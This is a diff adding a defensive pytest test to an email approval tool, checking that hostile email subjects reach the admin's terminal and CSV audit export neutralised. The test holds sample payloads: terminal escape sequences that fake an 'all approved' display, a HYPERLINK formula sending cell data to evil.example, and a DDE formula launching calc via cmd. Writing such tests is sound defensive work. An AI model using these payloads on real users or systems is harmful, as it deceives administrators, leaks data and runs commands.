@@ -12,7 +12,9 @@ approvers of ticket 1234 are alice@ and bob@example.com (see ``tests/conftest.py
 
 from __future__ import annotations
 
+import csv
 import email
+import io
 import json
 from collections.abc import Callable, Sequence
 from pathlib import Path
@@ -765,6 +767,41 @@ async def test_the_real_approver_with_an_encoded_display_name_is_approved(
     assert [r.outcome for r in result.reports] == ["approved"], result.reports
     assert harness.halo.approver(1234, 1)["result"] == 1
     assert [a["To"] for a in harness.answers()] == ["alice@example.com"]
+
+
+# -- attacker text reaching the admin's tools (issue 19) -------------------------------------
+#
+# A subject is the sender's text. Encoded, it can carry escape sequences that retitle the
+# terminal, clear it and write "all approved" where the admin looks; plain, a subject
+# starting with = is a formula to the spreadsheet the audit export is opened in.
+
+ESCAPES = ("=?utf-8?q?=1B]0;all_approved=07=1B[2J=1B[1;1H=E2=80=AERe:_Approval_required"
+           "_[ID:1234]?=")
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Re: Approval required [ID:1234]")'
+
+
+def test_escape_sequences_and_formulas_in_subjects_reach_the_admin_inert(
+    harness: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config = harness.write_config(tmp_path / "config.toml")
+    for subject in (ESCAPES, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0 [ID:1234]"):
+        harness.deliver(reply("dave@example.com", subject, "Approve"))
+    main(["once", "--config", str(config)])
+    ran = capsys.readouterr()
+
+    assert main(["audit", "--config", str(config)]) == 0
+    export = capsys.readouterr().out
+    (tmp_path / "m.eml").write_bytes(reply("dave@example.com", ESCAPES, "Approve"))
+    assert main(["explain", str(tmp_path / "m.eml")]) == 0
+    explained = capsys.readouterr().out
+
+    for text in (ran.out, ran.err, export, explained):
+        assert not any(ch in text for ch in "\x1b\x07\u202e")
+    subjects = sorted(row["subject"] for row in csv.DictReader(io.StringIO(export)))
+    assert subjects[0].startswith("'=HYPERLINK(") and subjects[1].startswith("'@SUM(")
+    assert subjects[2].startswith("\\x1b]0;all approved\\x07\\x1b[2J")
+    assert "\\x1b]0;all approved\\x07\\x1b[2J\\x1b[1;1H\\u202eRe:" in explained
+    assert harness.posts() == []
 
 
 # -- the replay: Alice's genuinely signed "Approve" for 1234 sent again for 1300 -------------
